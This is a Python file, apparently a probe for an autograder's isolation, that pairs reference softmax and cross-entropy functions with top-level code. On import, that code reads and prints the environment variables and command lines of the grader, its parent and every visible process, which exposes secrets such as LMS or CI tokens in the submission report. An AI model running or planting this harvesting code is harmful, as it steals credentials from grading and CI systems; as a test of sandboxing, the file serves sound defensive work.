"""Prints the grader's environment and command line, and those of every process it can see.

A grader's environment can hold tokens (an LMS key, a CI secret); what a submission prints is
shown in its report. It reads /proc/PID/environ and /proc/PID/cmdline for the grader's pid (the
test passes it in, as a student could learn it), its parent's, and every /proc/N it can list, and
prints them all. The functions are the reference.
"""
import math
import os

import numpy as np


GRADER_PID = "__GRADER_PID__"


def shown(pid):
    for part in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{part}", "rb") as handle:
                text = handle.read().replace(b"\0", b" ").decode("utf-8", "replace")
            print(f"/proc/{pid}/{part}: {text}")
        except OSError as refusal:
            print(f"/proc/{pid}/{part}: refused {type(refusal).__name__}")


for pid in [GRADER_PID, str(os.getppid())] + sorted(p for p in os.listdir("/proc") if p.isdigit()):
    shown(pid)
print("own environment:", dict(os.environ))


def _shifted_and_rest(logits):
    """Logits minus their max, and the sum of exp over every entry but one maximal one.

    Keeping that sum apart from the max's own exp(0) = 1 lets log1p see it whole, so a loss of
    1e-20 comes out as 1e-20 instead of log(1.0) = 0.
    """
    z = np.asarray(logits, dtype=np.float64)
    top = int(np.argmax(z))
    shifted = z - z[top]
    exps = np.exp(shifted)
    exps[top] = 0.0
    return shifted, float(np.sum(exps))


def log_softmax(logits):
    shifted, rest = _shifted_and_rest(logits)
    return (shifted - math.log1p(rest)).tolist()


def softmax(logits):
    shifted, rest = _shifted_and_rest(logits)
    return (np.exp(shifted) / (1.0 + rest)).tolist()


def cross_entropy_loss(logits, true_id):
    shifted, rest = _shifted_and_rest(logits)
    return math.log1p(rest) - float(shifted[true_id])


def sequence_loss(logits_list, true_ids):
    losses = [cross_entropy_loss(z, t) for z, t in zip(logits_list, true_ids)]
    return math.fsum(losses) / len(losses)


def perplexity(loss):
    try:
        return math.exp(loss)
    except OverflowError:
        return math.inf


def softmax_cross_entropy_grad(logits, true_id):
    grad = softmax(logits)
    # p[t] - 1 = exp(-loss) - 1: expm1 keeps its digits when p[t] is within 1e-16 of one.
    grad[true_id] = math.expm1(-cross_entropy_loss(logits, true_id))
    return grad
